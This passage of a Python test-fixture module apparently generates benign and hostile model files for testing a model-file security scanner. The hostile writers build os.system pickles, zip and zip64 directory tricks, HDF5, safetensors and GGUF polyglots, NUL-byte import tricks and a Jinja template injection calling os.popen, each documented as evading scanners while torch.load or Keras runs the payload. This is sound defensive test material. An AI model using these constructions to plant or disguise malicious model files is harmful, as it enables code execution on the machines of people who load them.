    return directory / "pytorch_model.bin"


def _zip_parts(archive: bytes) -> tuple[bytes, bytes, int]:
    end = archive.rfind(b"PK\x05\x06")
    count, size, offset = struct.unpack_from("<HII", archive, end + 10)
    return archive[:offset], archive[offset : offset + size], count


def _shift_central_directory(directory_bytes: bytes, delta: int) -> bytes:
    out = bytearray(directory_bytes)
    pos = 0
    while pos < len(out):
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", out, pos + 28)
        (offset,) = struct.unpack_from("<I", out, pos + 42)
        struct.pack_into("<I", out, pos + 42, offset + delta)
        pos += 46 + name_len + extra_len + comment_len
    return bytes(out)


def write_zip_two_central_directories(directory: Path) -> Path:
    """Python's zipfile reads the central directory just before the end record and shifts
    offsets by the difference; torch's miniz reads it where the end record says. Two
    directories, one archive: a scanner on zipfile sees a harmless state dict, torch.load the
    os.system one."""
    hostile_zip = torch_zip(directory / "a.zip", os_system_pickle(directory)).read_bytes()
    benign_zip = torch_zip(directory / "b.zip", whole_pickle(state_dict_body(SHAPES, legacy=False)))
    benign = benign_zip.read_bytes()
    (directory / "a.zip").unlink()
    benign_zip.unlink()
    entries_a, directory_a, count = _zip_parts(hostile_zip)
    entries_b, directory_b, _ = _zip_parts(benign)
    entries_a += b"\0" * 4096
    at_b = len(entries_a)
    at_directory_a = at_b + len(entries_b)
    shift = len(directory_a)  # what zipfile adds to every offset of the directory it reads
    directory_b = _shift_central_directory(directory_b, at_b - shift)
    end = b"PK\x05\x06" + struct.pack(
        "<HHHHIIH", 0, 0, count, count, len(directory_b), at_directory_a, 0
    )
    path = directory / "pytorch_model.bin"
    path.write_bytes(entries_a + entries_b + directory_a + directory_b + end)
    return path


def write_zip64_locator_to_a_second_directory(directory: Path) -> Path:
    """A zip64 locator that points at a second zip64 end record. Python's zipfile reads the
    record just before the locator (a harmless state dict); torch's miniz goes where the
    locator says (the os.system one)."""
    benign = torch_zip(directory / "b.zip", whole_pickle(state_dict_body(SHAPES, legacy=False)))
    hostile_zip = torch_zip(directory / "a.zip", os_system_pickle(directory))
    entries_a, directory_a, count_a = _zip_parts(benign.read_bytes())
    entries_b, directory_b, count_b = _zip_parts(hostile_zip.read_bytes())
    benign.unlink()
    hostile_zip.unlink()
    directory_b = _shift_central_directory(directory_b, len(entries_a))
    at_directory_b = len(entries_a) + len(entries_b)
    at_record_b = at_directory_b + len(directory_b)

    def record(count: int, size: int, offset: int) -> bytes:
        fields = struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, count, count, size, offset)
        return b"PK\x06\x06" + fields

    record_b = record(count_b, len(directory_b), at_directory_b)
    at_directory_a = at_record_b + len(record_b)
    record_a = record(count_a, len(directory_a), at_directory_a)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, at_record_b, 1)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    path = directory / "pytorch_model.bin"
    path.write_bytes(
        entries_a + entries_b + directory_b + record_b + directory_a + record_a + locator + end
    )
    return path


def write_npz_object_array_in_a_tensor_record(directory: Path) -> Path:
    """An .npz that a data.pkl makes look like a torch zip: its object array sits where torch
    keeps tensor bytes (`x/data/0.npy`), which a torch zip's scan passes over. np.load with
    allow_pickle=True unpickles it."""
    import numpy as np

    class _Call:
        def __reduce__(self) -> tuple[Any, ...]:
            return (os.system, (payload_command(directory),))

    objects = np.empty(1, dtype=object)
    objects[0] = _Call()
    array = io.BytesIO()
    np.lib.format.write_array(array, objects, allow_pickle=True)
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "weights.npz"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("x/data.pkl", pickle.dumps({}, protocol=2))
        zf.writestr("x/data/0.npy", array.getvalue())
        zf.writestr("x/version", "3\n")
    return path


def write_zip_member_pickle_for_pandas(directory: Path) -> Path:
    """A zip whose one member, named .npy, is a protocol-0 pickle: pandas.read_pickle opens a
    .zip by its name and unpickles its one member."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "weights.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("weights.npy", _shell_call_protocol0(directory))
    return path


def write_keras_zip_with_a_data_pkl(directory: Path) -> Path:
    """A .keras with a Lambda and an assets/data.pkl, which makes its kind a torch zip: Keras 3
    still builds the model from its config.json."""
    path = keras_zip(directory / "model.keras", keras_model(_lambda_layer(True)))
    with zipfile.ZipFile(path, "a") as zf:
        zf.writestr("assets/data.pkl", pickle.dumps({}, protocol=2))
        zf.writestr("assets/version", "3\n")
    return path


def write_zip_overlapping_members(directory: Path) -> Path:
    """Many central-directory entries pointing at one stored pickle: each would be scanned, and
    budgeted, anew."""
    data = whole_pickle(pickle.NONE + pickle.POP)
    name = b"a.pkl"
    crc = zlib.crc32(data)
    local = b"PK\x03\x04" + struct.pack(
        "<HHHHHIIIHH", 20, 0, 0, 0, 0, crc, len(data), len(data), len(name), 0
    )
    body = local + name + data
    central = b""
    for i in range(3):
        member = b"m%d.pkl" % i
        central += b"PK\x01\x02" + struct.pack(
            "<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, crc, len(data), len(data), len(member),
            0, 0, 0, 0, 0, 0,
        ) + member  # fmt: skip
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 3, 3, len(central), len(body), 0)
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.pt"
    path.write_bytes(body + central + end)
    return path


# --- Benign pickles that genops-based scanners misread -------------------------------------


def write_numpy_frame_between_global_names(directory: Path) -> Path:
    """What the C pickler writes: its 64 KiB frame ends between the two strings that name
    numpy's _reconstruct, so a STACK_GLOBAL takes operands from two frames."""
    return _write_pickle(directory, pickle.dumps(["x" * 65502, np.arange(4)], protocol=4))


def write_pickle_whitespace_after_stop(directory: Path) -> Path:
    """A hand-edited protocol-0 pickle ending in a newline; pickle.load never reads it."""
    data = pickle.dumps({"scale": 0.5, "bias": [1.0, 2.0]}, protocol=0) + b"\n"
    return _write_pickle(directory, data)


def write_python_file(directory: Path) -> Path:
    model = write_safetensors_dir(directory)
    (model / "modeling_x.py").write_text("import os\n\nos.system('id')\n")
    return model


# --- ONNX external data --------------------------------------------------------------------


def onnx_naming_external_data(directory: Path, location: str, *, length: int = 16) -> Path:
    """model.onnx with one float initializer whose bytes are in `location` (which the caller
    writes), as onnx.save_model(save_as_external_data=True) records it: a data file named by
    the model can then be anything."""
    from onnx import TensorProto, helper

    directory.mkdir(parents=True, exist_ok=True)
    tensor = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[length // 4])
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", str(length))):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    output = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [length // 4])
    graph = helper.make_graph(
        [helper.make_node("Identity", ["W"], ["Y"])], "g", [], [output], initializer=[tensor]
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    (directory / "model.onnx").write_bytes(model.SerializeToString())
    return directory


def write_onnx_external_data_torch_payload(directory: Path) -> Path:
    """A hostile torch checkpoint named as an ONNX model's external data, so that a validator
    that takes every external-data file for raw tensor bytes never scans it; torch.load (or
    transformers, from pytorch_model.bin) runs it."""
    write_torch_zip_payload(directory)
    return onnx_naming_external_data(directory, "pytorch_model.bin")


def write_onnx_external_data_pickle_payload(directory: Path) -> Path:
    """The same with a bare pickle: raw tensor bytes may open with PROTO by chance, so its kind
    alone cannot tell; what it imports can."""
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "weights.bin").write_bytes(os_system_pickle(directory))
    return onnx_naming_external_data(directory, "weights.bin")


def write_onnx_external_data_opens_like_a_pickle(directory: Path) -> Path:
    """Benign: ONNX external data whose first float's low bytes are 0x80 0x02, as a pickle's
    PROTO 2 opens (about 1 in 16,000 tensors start so), in a file named weights.bin."""
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    directory.mkdir(parents=True, exist_ok=True)
    values = np.ones(64, np.float32)
    values[0] = np.frombuffer(b"\x80\x02\x00\x3f", "<f4")[0]
    weight = numpy_helper.from_array(values.reshape(8, 8), name="W")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["X", "W"], ["Y"])],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 8])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 8])],
        initializer=[weight],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    onnx.save_model(
        model,
        str(directory / "model.onnx"),
        save_as_external_data=True,
        location="weights.bin",
        size_threshold=0,
    )
    assert (directory / "weights.bin").read_bytes()[:2] == b"\x80\x02"
    return directory


def long_name_pickle(directory: Path) -> bytes:
    """os.system reached through a dotted name over 512 characters (os.path.os.path...system,
    which the unpickler resolves attribute by attribute), called, and then a byte that breaks
    the stream: the call has run by then."""
    name = "path.os." * 70 + "system"
    call = op_short_str("os") + op_str(name) + pickle.STACK_GLOBAL
    call += op_str(payload_command(directory)) + pickle.TUPLE1 + pickle.REDUCE
    return pickle.PROTO + b"\x04" + call + b"\xff"


def write_onnx_external_data_long_name_payload(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "weights.bin").write_bytes(long_name_pickle(directory))
    return onnx_naming_external_data(directory, "weights.bin")


def v7_tar(members: list[tuple[str, bytes]]) -> bytes:
    """A tar whose headers have no POSIX magic (a pre-POSIX v7 tar): Python's tarfile, and so
    torch's legacy loader, checks nothing but each header's checksum."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    raw = bytearray(buffer.getvalue())
    at = 0
    while at < len(raw) and raw[at : at + 512].strip(b"\0"):
        header = raw[at : at + 512]
        size = int(header[124:136].strip(b"\0 ") or b"0", 8)
        header[257:265] = bytes(8)  # no magic, no version
        header[148:156] = b" " * 8
        header[148:156] = b"%06o\0 " % sum(header)
        raw[at : at + 512] = header
        at += 512 + -(-size // 512) * 512
    return bytes(raw)


def write_legacy_tar_without_magic(directory: Path) -> Path:
    """torch.load(weights_only=False) reads a v7 tar checkpoint as it reads a ustar one."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.pt"
    storages = os_system_pickle(directory)
    members = [("sys_info", pickle.dumps({}, 2)), ("storages", storages)]
    members += [("pickle", pickle.dumps({}, 2)), ("tensors", pickle.dumps(0, 2))]
    path.write_bytes(v7_tar(members))
    return path


def write_onnx_external_data_v7_tar(directory: Path) -> Path:
    write_legacy_tar_without_magic(directory)
    return onnx_naming_external_data(directory, "model.pt")


def write_onnx_external_data_tokenizer_config(directory: Path) -> Path:
    """A tokenizer_config.json whose auto_map loads code, named as external data: it opens with
    { as raw bytes may, but it is JSON, and keeps its config scan."""
    directory.mkdir(parents=True, exist_ok=True)
    config = {"auto_map": {"AutoTokenizer": ["attacker/repo--tokenization_x.XTokenizer", None]}}
    (directory / "tokenizer_config.json").write_text(json.dumps(config))
    return onnx_naming_external_data(directory, "tokenizer_config.json")


def write_keras_lambda_h5_user_block(directory: Path) -> Path:
    """A Keras 2 .h5 with a Lambda layer behind a 512-byte user block that opens like a pickle:
    libhdf5 (h5py, and so Keras) finds the superblock at 512, 1024, 2048 ... bytes in."""
    import h5py

    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.h5"
    with h5py.File(path, "w", userblock_size=512) as h5:
        h5.attrs["model_config"] = json.dumps(_keras2_model(_lambda_layer(False)))
        h5.attrs["keras_version"] = "2.15.0"
        h5.attrs["backend"] = "tensorflow"
        h5.create_group("model_weights")
    raw = bytearray(path.read_bytes())
    raw[:4] = b"\x80\x02K\x00"  # the user block is anyone's: here PROTO 2, BININT1 0
    path.write_bytes(raw)
    return path


def write_keras_zip_hdf5_polyglot(directory: Path, *, pad: int = 0) -> Path:
    """A Keras 3 archive (benign config.json) that is also an HDF5 file with a Lambda layer:
    its zip members sit in the HDF5 user block and its central directory after the HDF5 data.
    zipfile reads the zip; h5py, and tf.keras's load_model (it asks h5py.is_hdf5 first), the
    HDF5 file. `pad` bytes of dataset before the model_config, and as many in its name, put
    the HDF5 metadata far from the zip's parts."""
    import h5py

    directory.mkdir(parents=True, exist_ok=True)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
        zf.writestr("config.json", json.dumps(keras_model(dense())))
    raw = buffer.getvalue()
    end = raw[-22:]  # the end record, no comment
    cd_size, cd_offset = struct.unpack("<II", end[12:20])
    members, central = raw[:cd_offset], raw[cd_offset : cd_offset + cd_size]
    block = 4096
    assert len(members) <= block
    h5_path = directory / "lambda.h5.tmp"
    config = _keras2_model(_lambda_layer(False))
    with h5py.File(h5_path, "w", userblock_size=block) as h5:
        if pad:
            h5.create_dataset("pad", data=np.arange(pad // 4, dtype=np.float32))
            config["config"]["name"] = "x" * pad
        h5.attrs["model_config"] = json.dumps(config)
        h5.attrs["keras_version"] = "2.15.0"
        h5.attrs["backend"] = "tensorflow"
        h5.create_group("model_weights")
    hdf5 = h5_path.read_bytes()[block:]
    h5_path.unlink()
    body = members.ljust(block, b"\0") + hdf5
    path = directory / "model.keras"
    path.write_bytes(body + central + end[:16] + struct.pack("<I", len(body)) + end[20:])
    return path


def write_pickle_in_hdf5_user_block(directory: Path) -> Path:
    """An HDF5 file (h5py opens it) whose 512-byte user block is a pickle that pickle.load
    and torch.load run: a file that is two things is scanned as both."""
    import h5py

    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "pytorch_model.bin"
    with h5py.File(path, "w", userblock_size=512) as h5:
        h5.create_dataset("w", data=np.zeros((64, 64), dtype=np.float32))
    payload = os_system_pickle(directory)
    assert len(payload) <= 512
    with path.open("r+b") as fh:
        fh.write(payload)
    return path


def write_legacy_tar_named_like_a_pickle(directory: Path) -> Path:
    """A legacy torch tar whose first member is named like torch's legacy pickle stream
    ("(L<magic>L\\nt.N.N.N.N.": five pickles), in a v7 header: by its first bytes a pickle, to
    tarfile (and torch.load) a tar whose storages member runs a command."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "pytorch_model.bin"
    members = [("(L119547037146038801333356L\nt.N.N.N.N.", b"\x07" * 4096)]
    members += [("storages", os_system_pickle(directory)), ("tensors", pickle.dumps(0, 2))]
    members += [("pickle", pickle.dumps({}, 2))]
    path.write_bytes(v7_tar(members))
    return path


def _lambda_h5_bytes(directory: Path, user_block: int) -> bytes:
    import h5py

    path = directory / "lambda.h5.tmp"
    with h5py.File(path, "w", userblock_size=user_block) as h5:
        h5.attrs["model_config"] = json.dumps(_keras2_model(_lambda_layer(False)))
        h5.attrs["keras_version"] = "2.15.0"
        h5.attrs["backend"] = "tensorflow"
        h5.create_group("model_weights")
    raw = path.read_bytes()
    path.unlink()
    return raw


def write_safetensors_holding_hdf5(directory: Path) -> Path:
    """A valid safetensors file (one U8 tensor) whose header fills an HDF5 user block: h5py
    opens it, and tf.keras's load_model, which asks h5py.is_hdf5, finds the Lambda."""
    directory.mkdir(parents=True, exist_ok=True)
    raw = bytearray(_lambda_h5_bytes(directory, 512))
    size = len(raw) - 512
    entry = {"blob": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}}
    header = json.dumps(entry).encode().ljust(504)
    raw[:512] = struct.pack("<Q", 504) + header
    path = directory / "model.h5"
    path.write_bytes(raw)
    return path


def write_json_user_block_hdf5(directory: Path) -> Path:
    """A Keras 2 .h5 with a Lambda whose user block opens with {}: by its first bytes JSON."""
    directory.mkdir(parents=True, exist_ok=True)
    raw = bytearray(_lambda_h5_bytes(directory, 512))
    raw[:2] = b"{}"
    path = directory / "model.h5"
    path.write_bytes(raw)
    write_safetensors_dir(directory)  # weights beside it, so the format check passes
    return path


def write_keras_zip_after_safetensors(directory: Path) -> Path:
    """A safetensors file whose one tensor is a Keras 3 archive with a Lambda: Keras 3 opens a
    .keras with zipfile, which finds the archive from the file's end."""
    directory.mkdir(parents=True, exist_ok=True)
    archive = write_keras_lambda_zip(directory / "zip").read_bytes()
    for leftover in sorted((directory / "zip").iterdir()):
        leftover.unlink()
    (directory / "zip").rmdir()
    entry = {"blob": {"dtype": "U8", "shape": [len(archive)], "data_offsets": [0, len(archive)]}}
    header = json.dumps(entry).encode()
    header += b" " * (-len(header) % 8)
    path = directory / "model.keras"
    path.write_bytes(struct.pack("<Q", len(header)) + header + archive)
    return path


def write_onnx_external_data_h5_user_block(directory: Path) -> Path:
    write_keras_lambda_h5_user_block(directory)
    return onnx_naming_external_data(directory, "model.h5")


# --- NUL bytes, as CPython's C code reads them -----------------------------------------------


def _nul_external_data(directory: Path, data: bytes) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "weights.bin").write_bytes(data)
    return onnx_naming_external_data(directory, "weights.bin")


def write_nul_in_module_name(directory: Path) -> Path:
    """GLOBAL `os\\0junk`: the import system looks a frozen module (os, io, runpy ...) up by
    its name up to the first NUL, so this imports os. As external data, where names that are
    no identifiers are taken for raw bytes."""
    return _nul_external_data(directory, b"cos\x00junk" + _shell_call_protocol0(directory)[3:])


def write_nul_in_long_stack_global_module(directory: Path) -> Path:
    """STACK_GLOBAL over `os\\0` and 600 more characters: too long and no dotted name, yet
    what the import reads is `os`."""
    module = op_str("os\0" + "x" * 600) + op_str("system")
    call = module + pickle.STACK_GLOBAL + op_tuple(op_str(payload_command(directory)))
    return _nul_external_data(directory, call + pickle.REDUCE + pickle.STOP)


def write_nul_after_int(directory: Path) -> Path:
    """C's load_int reads INT's line with strtol, which stops at a NUL: `I5\\0zz` is 5, and
    the load runs on into os.system."""
    return _nul_external_data(directory, b"I5\x00zz\n0" + _shell_call_protocol0(directory))


# --- Files read by name, whatever their first bytes say ----------------------------------------

_TEMPLATE_PAYLOAD = "{% for m in messages %}{{ m['content'] }}{% endfor %}{{ cycler.__init__.__globals__.os.popen('id').read() }}"  # noqa: E501


def write_template_opening_like_gguf(directory: Path) -> Path:
    """chat_template.jinja that opens with a GGUF header of no tensors and no keys (valid
    UTF-8): by content a GGUF file, yet transformers reads it as the model's template."""
    model = write_safetensors_dir(directory)
    header = b"GGUF" + struct.pack("<IQQ", 3, 0, 0)
    (model / "chat_template.jinja").write_bytes(header + _TEMPLATE_PAYLOAD.encode())
    return model


def write_template_opening_like_safetensors(directory: Path) -> Path:
    """chat_template.jinja of 240 KB of emoji (60,000 characters, under the 256 KiB a template
    is read to) whose first bytes make a safetensors header with one U8 tensor over the rest:
    the payload is past 64 KiB, where a reader that goes by content stops."""
    model = write_safetensors_dir(directory)
    body = ("\U0001f600" * 60_000 + _TEMPLATE_PAYLOAD).encode()
    entry = {"t": {"dtype": "U8", "shape": [len(body)], "data_offsets": [0, len(body)]}}
    header = json.dumps(entry, separators=(",", ":")).encode()
    (model / "chat_template.jinja").write_bytes(struct.pack("<Q", len(header)) + header + body)
    return model


def write_zip_end_record_at_the_window_edge(directory: Path) -> Path:
    """A safetensors file whose tensor holds a zip with a pickle, its end record followed by
    64 KiB: at the first byte of the last 64 KiB + 22 that zipfile searches."""
    directory.mkdir(parents=True, exist_ok=True)
    prefix = 8 + 160 + (1 << 20)
    archive = io.BytesIO(b"\0" * prefix)
    with zipfile.ZipFile(archive, "a", zipfile.ZIP_STORED) as zf:
        zf.writestr("payload.pkl", os_system_pickle(directory))
    body = archive.getvalue()[prefix:]
    size = (1 << 20) + len(body) + (1 << 16)
    entry = {"t": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}}
    header = json.dumps(entry).encode().ljust(160)
    blob = struct.pack("<Q", 160) + header + b"\0" * (1 << 20) + body + b"\0" * (1 << 16)
    assert blob.rfind(b"PK\x05\x06") == len(blob) - (1 << 16) - 22
    path = directory / "model.safetensors"
    path.write_bytes(blob)
    return path


# --- Formats that are pickles too ------------------------------------------------------------


def safetensors_pickle_polyglot(directory: Path) -> bytes:
    """A valid safetensors file that is a pickle from byte 0. Its header length 0x088c opens
    with SHORT_BINUNICODE of 8 bytes (the rest of the length, `{` and `"`); a chain of
    SHORT_BINSTRINGs inside the first JSON key passes over the rest of the header; the pickle
    goes on in the tensor's data, an os.system call."""
    payload = b"\x80\x02" + _shell_call_protocol0(directory)
    header_len = 0x088C
    n = len(payload)
    tail = f'": {{"dtype":"U8","shape":[{n}],"data_offsets":[0,{n}]}}}}'
    last = 120  # the last SHORT_BINSTRING: the key's end, the tail and the padding
    chunks, pos, last_at = [], 2, header_len - 2 - last
    while pos < last_at:
        gap = last_at - pos
        n = min(0x7E, gap - 2)
        if 0 < gap - 2 - n < 2 + 0x20:  # leave room for a last chunk of printable length
            n = gap - 2 - (2 + 0x20)
        chunks.append("U" + chr(n) + "x" * n)
        pos += 2 + n
    chunks.append("U" + chr(last) + "y" * 10)
    header = ('{"' + "".join(chunks) + tail + " " * (last - 10 - len(tail))).encode()
    assert len(header) == header_len
    return struct.pack("<Q", header_len) + header + payload


def write_safetensors_that_is_a_pickle(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.pt"
    path.write_bytes(safetensors_pickle_polyglot(directory))
    return path


def write_tensorflow_shard_that_is_a_pickle(directory: Path) -> Path:
    """A protocol-0 pickle named like a TensorFlow checkpoint shard, and .pt: by its name a
    shard (raw tensor bytes), to torch.load and pickle.load a pickle. `N0` (None, popped)
    opens it, so it does not start like the protocol-0 pickles sniff knows."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.data-00000-of-00001.pt"
    path.write_bytes(b"N0" + _shell_call_protocol0(directory))
    return path


def gguf_pickle_polyglot(directory: Path) -> bytes:
    """A valid GGUF v3 file that is a pickle from byte 0 (13 MB). `G` (BINFLOAT) takes `GUF`,
    the version and a byte; the tensor count's next bytes are LONG1 of 5 (so 363,008 tensors);
    the key count and the first key's length open BINBYTES of 3; the first key is a protocol-0
    os.system pickle."""
    n_tensors, n_kv, key_len = 0x00058A00, 0x0342, 0x0342
    key = _shell_call_protocol0(directory).ljust(key_len, b" ")
    out = bytearray(b"GGUF" + struct.pack("<IQQ", 3, n_tensors, n_kv))
    out += struct.pack("<Q", key_len) + key + struct.pack("<IB", 0, 0)  # a uint8 value
    for i in range(n_kv - 1):
        name = b"k%d" % i
        out += struct.pack("<Q", len(name)) + name + struct.pack("<IB", 0, 0)
    info = struct.pack("<IQIQ", 1, 0, 0, 0)  # one dimension of 0, F32, offset 0
    out += b"".join(
        struct.pack("<Q", len(b"t%x" % i)) + b"t%x" % i + info for i in range(n_tensors)
    )
    return bytes(out + b"\0" * (-len(out) % 32))


# --- Registries ----------------------------------------------------------------------------

BENIGN: dict[str, Writer] = {
    "handmade_torch_zip": write_handmade_torch_zip,
    "handmade_torch_legacy": write_handmade_torch_legacy,
    "numpy_pickle_protocol2": write_numpy_pickle_protocol2,
    "numpy_pickle_protocol5": write_numpy_pickle_protocol5,
    "numpy_pickle_large": write_numpy_pickle_large,
    "safetensors_dir": write_safetensors_dir,
    "numpy_arrays": write_numpy_arrays,
    "keras_zip": write_keras_zip,
    "keras_h5": write_keras_h5,
    "numpy_frame_between_global_names": write_numpy_frame_between_global_names,
    "pickle_whitespace_after_stop": write_pickle_whitespace_after_stop,
    "onnx_external_data_opens_like_a_pickle": write_onnx_external_data_opens_like_a_pickle,
}
if importlib.util.find_spec("torch") is not None:
    BENIGN |= {
        "torch_zip_state_dict": write_torch_zip_state_dict,
        "torch_legacy_state_dict": write_torch_legacy_state_dict,
    }

HOSTILE: dict[str, Writer] = {
    "reduce_os_system": write_reduce_os_system,
    "reduce_os_system_pickled": write_reduce_os_system_pickled,
    "torch_zip_payload": write_torch_zip_payload,
    "zip_duplicate_data_pkl": write_zip_duplicate_data_pkl,
    "memo_stack_global": write_memo_stack_global,
    "memo_across_pickles": write_memo_across_pickles,
    "importlib_getattr_chain": write_importlib_getattr_chain,
    "importlib_getattr_static_chain": write_importlib_getattr_static_chain,
    "payload_then_broken_tail": write_payload_then_broken_tail,
    "benign_then_garbage": write_benign_then_garbage,
    "truncated_payload": write_truncated_payload,
    "pickle_zip_polyglot": write_pickle_zip_polyglot,
    "protocol0_unknown_extension": write_protocol0_unknown_extension,
    "object_npy": write_object_npy,
    "object_npy_payload": write_object_npy_payload,
    "npz_object_array": write_npz_object_array,
    "zip_path_traversal": write_zip_path_traversal,
    "zip_absolute_path": write_zip_absolute_path,
    "zip_symlink": write_zip_symlink,
    "zip_bomb": write_zip_bomb,
    "zip_bomb_many_entries": write_zip_bomb_many_entries,
    "legacy_tar_checkpoint": write_legacy_tar_checkpoint,
    "keras_lambda_zip": write_keras_lambda_zip,
    "keras_module_reference_zip": write_keras_module_reference_zip,
    "keras_lambda_h5": write_keras_lambda_h5,
    "saved_model_keras_lambda": write_saved_model_keras_lambda,
    "config_trust_remote_code": write_config_trust_remote_code,
    "config_auto_map": write_config_auto_map,
    "config_hub_kernel_attention": write_config_hub_kernel_attention,
    "config_hub_kernel_per_submodel": write_config_hub_kernel_per_submodel,
    "tokenizer_config_vocab_outside": write_tokenizer_config_vocab_outside,
    "tokenizer_config_vocab_relative": write_tokenizer_config_vocab_relative,
    "special_tokens_map_vocab_outside": write_special_tokens_map_vocab_outside,
    "fast_tokenizer_files_outside": write_fast_tokenizer_files_outside,
    "special_tokens_map_tokenizer_file_outside": write_special_tokens_map_tokenizer_file_outside,
    "tokenizer_config_gguf_file_outside": write_tokenizer_config_gguf_file_outside,
    "config_transformers_weights_bin": write_config_transformers_weights_bin,
    "tokenizer_config_auto_map": write_tokenizer_config_auto_map,
    "python_file": write_python_file,
    "frame_evasion_pkl": write_frame_evasion_pkl,
    "frame_evasion_torch_zip": write_frame_evasion_torch_zip,
    "frame_evasion_torch_legacy": write_frame_evasion_torch_legacy,
    "frame_inside_frame": write_frame_inside_frame,
    "frame_tail_after_stop": write_frame_tail_after_stop,
    "tuple_without_mark": write_tuple_without_mark,
    "stack_underflow": write_stack_underflow,
    "memo_get_unset": write_memo_get_unset,
    "int_base0_unknown_file": write_int_base0_unknown_file,
    "short_binstring_stack_global": write_short_binstring_stack_global,
    "frame_evasion_without_proto": write_frame_evasion_without_proto,
    "tar_named_like_json": write_tar_named_like_json,
    "zip_two_central_directories": write_zip_two_central_directories,
    "zip_overlapping_members": write_zip_overlapping_members,
    "onnx_external_data_torch_payload": write_onnx_external_data_torch_payload,
    "onnx_external_data_pickle_payload": write_onnx_external_data_pickle_payload,
    "onnx_external_data_long_name_payload": write_onnx_external_data_long_name_payload,
    "legacy_tar_without_magic": write_legacy_tar_without_magic,
    "onnx_external_data_v7_tar": write_onnx_external_data_v7_tar,
    "onnx_external_data_tokenizer_config": write_onnx_external_data_tokenizer_config,
    "keras_lambda_h5_user_block": write_keras_lambda_h5_user_block,
    "onnx_external_data_h5_user_block": write_onnx_external_data_h5_user_block,
    "keras_zip_hdf5_polyglot": write_keras_zip_hdf5_polyglot,
    "pickle_in_hdf5_user_block": write_pickle_in_hdf5_user_block,
    "legacy_tar_named_like_a_pickle": write_legacy_tar_named_like_a_pickle,
    "safetensors_holding_hdf5": write_safetensors_holding_hdf5,
    "json_user_block_hdf5": write_json_user_block_hdf5,
    "keras_zip_after_safetensors": write_keras_zip_after_safetensors,
    "nul_in_module_name": write_nul_in_module_name,
    "nul_in_long_stack_global_module": write_nul_in_long_stack_global_module,
    "nul_after_int": write_nul_after_int,
    "template_opening_like_gguf": write_template_opening_like_gguf,
    "template_opening_like_safetensors": write_template_opening_like_safetensors,
    "zip_end_record_at_the_window_edge": write_zip_end_record_at_the_window_edge,
    "saved_model_keras_lambda_past_64k": write_saved_model_keras_lambda_past_64k,
    "safetensors_that_is_a_pickle": write_safetensors_that_is_a_pickle,
    "tensorflow_shard_that_is_a_pickle": write_tensorflow_shard_that_is_a_pickle,
    "zip64_locator_to_a_second_directory": write_zip64_locator_to_a_second_directory,
    "npz_object_array_in_a_tensor_record": write_npz_object_array_in_a_tensor_record,
    "zip_member_pickle_for_pandas": write_zip_member_pickle_for_pandas,
    "keras_zip_with_a_data_pkl": write_keras_zip_with_a_data_pkl,
}
